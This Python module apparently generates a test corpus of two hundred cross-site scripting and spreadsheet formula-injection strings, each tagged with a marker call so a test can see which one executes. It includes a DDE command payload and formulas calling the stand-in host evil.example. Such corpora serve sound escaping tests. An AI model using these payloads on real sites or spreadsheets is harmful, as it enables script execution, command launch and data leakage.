"""Two hundred strings that would run as a script, or as a formula, wherever somebody forgot to write them as words."""

from itertools import product

# what runs when a browser takes words for a page; `%s` is the call that tells of it
SCRIPTS = (
    "<script>%s</script>",
    "<ScRiPt >%s</sCrIpT>",
    "<script/x>%s</script>",
    "<scr<script>ipt>%s</script>",
    "<img src=x onerror=%s>",
    "<img src=x:x onerror='%s'//",
    '<img """><script>%s</script>">',
    "<svg onload=%s>",
    "<svg/onload=%s>",
    "<svg><script>%s</script></svg>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<math><mtext><script>%s</script></mtext></math>",
    "<iframe srcdoc='<script>parent.%s</script>'>",
    "<iframe src=javascript:%s>",
    "<body onload=%s>",
    "<details open ontoggle=%s>",
    "<input autofocus onfocus=%s>",
    "<select autofocus onfocus=%s>",
    "<video><source onerror=%s></video>",
    "<audio src=x onerror=%s>",
    "<object data=javascript:%s>",
    "<embed src=javascript:%s>",
    "<a href=javascript:%s>x</a>",
    "<form action=javascript:%s><button>x</button></form>",
    "<button formaction=javascript:%s>x</button>",
    "<base href='javascript:%s//'>",
    "<meta http-equiv=refresh content='0;url=javascript:%s'>",
    "<link rel=stylesheet href=javascript:%s>",
    "<style>@import 'javascript:%s';</style>",
    "<div style=background:url(javascript:%s)>",
    "<marquee onstart=%s>",
    "<x onclick=%s>x</x>",
    "<template><script>%s</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=%s>'>",
    "<!--><script>%s</script>-->",
    "<![CDATA[<script>%s</script>]]>",
    "<?xml version='1.0'?><script>%s</script>",
    "{{ constructor.constructor('%s')() }}",
    "${%s}",
    "javascript:%s",
)
# how somebody gets out of the place where words stand
WAYS_OUT = ("", '"', "'>", "</textarea>", "</title></script>")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x","x")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "%0A=1+1",
    '=IMPORTXML("http://evil.example","//a")',
    "|calc",
    "-2+3+cmd|'x'!A",
)
MARK = "zqx"


def call(number: int) -> str:
    """What a string would run; it tells which string it was."""
    return f"{MARK}({number})"


def strings() -> list[str]:
    """All of them, two hundred, each with its number inside; the last carry a formula at their beginning."""
    scripts = [way + script for script, way in product(SCRIPTS, WAYS_OUT)]
    scripts[-len(FORMULAS) :] = [formula + " %s" for formula in FORMULAS]
    return [script.replace("%s", call(number)) for number, script in enumerate(scripts)]
